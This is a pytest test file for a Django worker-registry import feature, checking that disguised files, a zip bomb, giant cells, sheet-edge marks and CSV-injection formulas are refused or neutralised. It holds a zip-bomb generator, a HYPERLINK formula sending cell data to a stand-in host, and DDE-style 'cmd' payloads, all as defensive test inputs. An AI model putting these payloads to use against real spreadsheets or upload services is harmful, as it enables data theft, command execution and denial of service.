"""Hostile uploads (issue 10): files that are not what they claim, zip bombs, giant cells,
formulas and CSV-injection payloads. Each ends in a clear refusal or a correct import; a
refusal leaves the registry as it was; nothing the app writes back out can run as a formula.

A sheet used to its last row or column is here as the hostile form it takes (a stray mark in
a 6 KB file); a real 1,048,575-row list is measured by `bench/import_bench.py --xlsx-only
--xlsx-rows 1048575` with its time and peak memory.
"""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from lindungi.core.errors import DomainError
from lindungi.imports.services import import_create, import_run
from lindungi.registry.models import Worker

from .files import csv_bytes, messy_xlsx

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def row(nik="6402061205800001", name="Budi Santoso", address="Jl. Mangkurawang 7", **extra):
    return [
        "1",
        nik,
        name,
        "Tenggarong, 12-05-1980",
        "L",
        address,
        "3/5",
        "Loa Ipuh",
        extra.get("phone", ""),
        "Petani",
        "",
    ]


def upload(actor, name, content):
    imp = import_create(
        actor=actor,
        file=io.BytesIO(content),
        file_name=name,
        region_code="64.02.06.1002",
        background=False,
    )
    return import_run(imp=imp, actor=actor)


def refused(actor, name, content):
    before = list(Worker.objects.values_list("nik", "version"))
    with pytest.raises(DomainError) as excinfo:
        upload(actor, name, content)
    assert list(Worker.objects.values_list("nik", "version")) == before
    assert excinfo.value.message
    return excinfo.value


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("desa.xlsx", os.urandom(4096)),  # random bytes named as a workbook
        ("desa.xlsx", b"PK\x03\x04" + os.urandom(4096)),  # a zip header and garbage
        ("desa.xlsx", b"\x7fELF\x02\x01\x01" + bytes(4000)),  # an executable
        ("desa.xlsx", b"%PDF-1.7\n" + os.urandom(2000)),  # a PDF renamed
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused_clearly(world, name, content):
    error = refused(world.village_operator, name, content)
    assert error.code == "IMPORT_FILE_UNREADABLE"


def test_binary_renamed_as_csv_is_refused(world):
    error = refused(world.village_operator, "desa.csv", b"\x7fELF\x02\x01\x01" + os.urandom(8000))
    assert error.code in {"IMPORT_NO_HEADER", "IMPORT_FILE_UNREADABLE"}


def _zip_bomb(path, unpacked_mb: int) -> None:
    """A valid-looking workbook whose sheet inflates ~1000:1 (zeros)."""
    chunk = b"0" * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(unpacked_mb):
                sheet.write(chunk)


def test_a_zip_bomb_is_refused_before_it_is_inflated(world, tmp_path):
    path = tmp_path / "desa.xlsx"
    _zip_bomb(path, 300)  # 300 MB of sheet in a few hundred KB
    assert path.stat().st_size < 2 * 1024 * 1024
    error = refused(world.village_operator, "desa.xlsx", path.read_bytes())
    assert error.code == "IMPORT_FILE_UNREADABLE"
    assert "terkompresi" in error.message


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_ten_megabyte_cell_is_a_rejected_row_not_a_crash(world, tmp_path, kind):
    giant = "A" * (10 * 1024 * 1024)
    rows = [row(), row(nik="6402065705850002", name="Siti Aminah", address=giant)]
    rows[1][4] = "P"
    rows[1][3] = "Tenggarong, 17-05-1985"
    if kind == "csv":
        content = csv_bytes(rows)
    else:
        content = messy_xlsx(tmp_path / "desa.xlsx", rows).read_bytes()
    imp = upload(world.village_operator, f"desa.{kind}", content)
    assert (imp.created, imp.rejected) == (1, 1)
    assert list(Worker.objects.values_list("nik", flat=True)) == ["6402061205800001"]
    with imp.report.open("rb") as handle:
        report = list(csv.DictReader(io.StringIO(handle.read().decode("utf-8"))))
    giant_row = next(r for r in report if r["status"] == "rejected")
    assert "Alamat" in giant_row["messages"] or "alamat" in giant_row["messages"]
    assert len(giant_row["messages"]) < 1000  # the report names the problem, not the cell


def test_formulas_import_as_their_text_and_every_export_neutralises_them(world, tmp_path):
    """A formula in a free-text column is stored as the operator's text; a formula where a NIK
    or name belongs is rejected. The CSV report carries them with a leading apostrophe; the rejected-rows workbook as
    text cells. Either way a spreadsheet shows them and never evaluates them."""
    rows = [
        row(address=PAYLOAD),
        row(nik="+6402065705850002", name="Siti"),
        row(nik="6402060101700004", name="@SUM(1+1)*cmd|' /C calc'!A0"),
        row(nik="6402062002000005", name="-2+3+cmd|' /C calc'!A0"),
    ]
    path = tmp_path / "desa.csv"
    path.write_bytes(csv_bytes(rows))
    imp = upload(world.village_operator, "desa.csv", path.read_bytes())
    stored = Worker.objects.get(nik="6402061205800001")
    assert stored.address == PAYLOAD  # kept as entered, it is just text in the registry
    assert imp.created == 1 and imp.rejected == 3

    with imp.report.open("rb") as handle:
        report_text = handle.read().decode("utf-8")
    for line in list(csv.reader(io.StringIO(report_text)))[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@")), cell

    # The rejected-rows workbook gives the operator's cells back to be corrected: as text
    # cells (an xlsx string cell is never evaluated), with no formula anywhere in the sheet.
    with imp.rejected_file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    workbook = CalamineWorkbook.from_filelike(imp.rejected_file.open("rb"))
    cells = [c for r in workbook.get_sheet_by_index(0).to_python() for c in r]
    assert "+6402065705850002" in cells and "-2+3+cmd|' /C calc'!A0" in cells


def _stray_mark(path, row_index, column_index):
    """Five workers, then one character far away — as when someone pressed a key at the bottom
    or the right edge of the sheet."""
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet()
    header = ["No", "NIK", "Nama", "Tempat/Tgl Lahir", "L/P", "Alamat", "RT/RW", "Desa",
              "No HP", "Pekerjaan", "Keterangan"]  # fmt: skip
    for column, title in enumerate(header):
        sheet.write_string(0, column, title)
    for number in range(1, 6):
        values = row(nik=f"64020612058000{number:02d}", name=f"Budi {chr(64 + number)}")
        for column, value in enumerate(values):
            sheet.write_string(number, column, value)
    sheet.write_string(row_index, column_index, ".")
    workbook.close()
    return path.read_bytes()


def test_a_mark_in_the_last_cell_of_the_sheet_is_refused_before_reading(world, tmp_path):
    content = _stray_mark(tmp_path / "desa.xlsx", 1_048_575, 16_383)  # XFD1048576
    assert len(content) < 10_000  # asks the reader for 17 billion cells: 512 GiB
    started = time.perf_counter()
    error = refused(world.village_operator, "desa.xlsx", content)
    assert time.perf_counter() - started < 10
    assert error.code == "IMPORT_FILE_UNREADABLE"
    assert "XFD1048576" in error.message and "hapus isi di luar tabel data" in error.message


def test_a_mark_on_the_last_row_imports_the_list_without_holding_a_million_blank_rows(
    world, tmp_path
):
    from lindungi.core.spreadsheets.readers import read_table
    from lindungi.imports.columns import WORKER_LIST

    path = tmp_path / "desa.xlsx"
    path.write_bytes(_stray_mark(path, 1_048_575, 0))  # A1048576
    table = read_table(path, "desa.xlsx", spec=WORKER_LIST)
    assert table.original.height == 6  # five workers and the mark; blank rows only by number
    assert table.blank_rows.len() == 1_048_569
    imp = upload(world.village_operator, "desa.xlsx", path.read_bytes())
    assert (imp.created, imp.rejected, imp.skipped) == (5, 0, 1_048_570)
    assert Worker.objects.count() == 5
